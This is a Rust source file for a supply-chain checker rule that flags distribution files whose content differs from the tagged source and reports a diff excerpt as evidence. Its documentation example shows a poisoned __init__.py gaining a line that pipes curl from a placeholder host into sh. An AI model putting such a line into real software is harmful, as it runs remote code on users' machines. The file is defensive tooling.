use garrison_report::{Confidence, Finding, RuleMeta, declare_rule};

use super::{ReleaseRule, SPEC8};
use crate::source::{CompareCx, MAX_DIFFS, SourceEvent, diff_excerpt, is_text, weight};

declare_rule! {
    /// ## What it checks
    /// A distribution file whose source file exists at the release tag but with other content.
    /// Text files get a unified diff excerpt (source → distribution, at most 40 lines) in the
    /// finding; binaries get their sizes. Differences a backend is known to make are allowed
    /// with the reason: only line endings, setuptools' `[egg_info]` section in `setup.cfg`,
    /// versioneer's frozen `_version.py`, `git archive`'s `$Format:…$` substitutions.
    ///
    /// ## Why it matters
    /// Changing a reviewed file between the repository and the artifact is how a poisoned
    /// build ships code that no pull request showed; the diff is the exact payload.
    ///
    /// ## Example
    /// ```text
    /// --- source/src/sci_pkg/__init__.py
    /// +++ dist/src/sci_pkg/__init__.py
    /// @@ -1,2 +1,3 @@
    ///  from .core import mean
    /// +import os; os.system("curl -s https://x.example | sh")
    /// ```
    ///
    /// ## Remediation
    /// Do not publish the artifact. Rebuild from a clean checkout of the tag and compare; look
    /// for build steps, hooks or CI caches that write into the tree before packaging.
    pub ContentDiffers {
        id: "release/content-differs",
        summary: "distribution file differs from the source file",
        severity: High,
        help: "do not publish this artifact; rebuild from a clean checkout of the tag and find what changed the file",
        references: [SPEC8],
    }
}

impl ReleaseRule for ContentDiffers {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn source(&self, cx: &CompareCx<'_>, event: &SourceEvent<'_>, out: &mut Vec<Finding>) {
        if let SourceEvent::Differs {
            member,
            source_path,
            source,
            dist,
        } = event
        {
            out.push(differs(cx, member, source_path, source, dist));
        }
    }
}

/// The finding for a file whose content differs: a diff excerpt for the first
/// [`MAX_DIFFS`] text files, sizes otherwise.
fn differs(cx: &CompareCx<'_>, rel: &str, spath: &str, sdata: &[u8], data: &[u8]) -> Finding {
    let sev = weight(rel);
    cx.diffs.set(cx.diffs.get() + 1);
    let excerpt = if cx.diffs.get() <= MAX_DIFFS {
        diff_excerpt(spath, sdata, data)
    } else {
        None
    };
    let (note, added, removed) = match excerpt {
        Some((d, a, r)) => (d, a, r),
        None => (
            format!(
                "{}: {} bytes in the source, {} in the distribution",
                if is_text(sdata) && is_text(data) {
                    "no diff shown (over 1 MiB, or past the first 200 diffs)"
                } else {
                    "binary content"
                },
                sdata.len(),
                data.len()
            ),
            0,
            0,
        ),
    };
    let summary = if added + removed > 0 {
        format!(" (+{added} −{removed} lines)")
    } else {
        String::new()
    };
    Finding::builder(&ContentDiffers::META)
        .severity(sev)
        .confidence(Confidence::High)
        .message(if rel == spath {
            format!(
                "`{rel}` differs from the source file in {}{summary}",
                cx.src.label
            )
        } else {
            format!(
                "`{rel}` differs from `{spath}` in {}{summary}",
                cx.src.label
            )
        })
        .location(cx.loc(rel).with_note(note.clone()))
        .location(cx.source_loc(spath, "the source file"))
        .evidence("member", rel)
        .evidence("source_path", spath)
        .evidence("added_lines", added)
        .evidence("removed_lines", removed)
        .evidence("diff", note)
        .key(rel)
        .build()
}
